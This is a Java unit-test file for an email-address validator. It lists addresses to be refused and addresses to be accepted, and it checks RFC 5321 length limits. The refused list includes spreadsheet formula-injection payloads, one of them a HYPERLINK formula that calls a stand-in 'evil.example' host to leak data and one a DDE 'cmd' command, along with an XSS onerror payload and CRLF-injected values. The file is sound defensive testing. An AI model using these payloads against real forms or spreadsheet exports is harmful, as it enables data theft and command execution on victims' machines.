package com.researchbridge.security;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EmailAddressTest {

    /** The first three were stored by the old check during an attack on the site; the rest are of the same family. */
    @ParameterizedTest
    @ValueSource(strings = {
        "=hyperlink(\"http://evil.example/?leak\")@x.kz", "+2,=3+4@x.kz", "<img/src=x/onerror=alert(1)>@x.kz",
        "=cmd|' /C calc'!A0@x.kz", "=1+1@x.kz", "+77012345678@x.kz", "-2+3@x.kz", "@sum(a1)@x.kz", "|calc@x.kz",
        "%0d=1@x.kz", "\"=1+1\"@x.kz", "\"quoted local\"@x.kz", "a@[127.0.0.1]", "a\t@x.kz", "a\r\n=1@x.kz", "a,b@x.kz",
        "a;b@x.kz", "a<b@x.kz", "a(b)@x.kz", "a@x", "a@x.notatld", "a@-x.kz", "a@localhost", "a@@x.kz", "a..b@x.kz",
        ".a@x.kz", "", " ", "@x.kz", "a@"})
    void hostileAndMalformedAddressesAreRefused(String address) {
        assertThat(EmailAddress.isWellFormed(address)).as(address).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"aliya.seitkali@kaznu.kz", "Wang.Jie@AMSS.ac.cn", " office@kaznu.example ",
        "o'brien+research@uni.edu", "first_last-2@mail.tsinghua.edu.cn", "a@xn--80ao21a.kz", "a@қазақстан.kz",
        "用户@例子.中国", "a=b@x.kz"})
    void ordinaryAddressesPass(String address) {
        assertThat(EmailAddress.isWellFormed(address)).as(address).isTrue();
    }

    @org.junit.jupiter.api.Test
    void theLengthsOfRfc5321AreTheLimit() {
        String local64 = "a".repeat(64);
        assertThat(EmailAddress.isWellFormed(local64 + "@x.kz")).isTrue();
        assertThat(EmailAddress.isWellFormed(local64 + "a@x.kz")).isFalse();
        String domain = "b".repeat(60) + "." + "c".repeat(60) + "." + "d".repeat(60) + "." + "e".repeat(60) + ".kz";
        String address254 = "a".repeat(254 - domain.length() - 1) + "@" + domain;
        assertThat(address254).hasSize(254);
        assertThat(EmailAddress.isWellFormed(address254)).isTrue();
        assertThat(EmailAddress.isWellFormed("a" + address254)).isFalse();
        assertThat(EmailAddress.isWellFormed("a".repeat(2_000_000) + "@x.kz")).isFalse();
    }
}
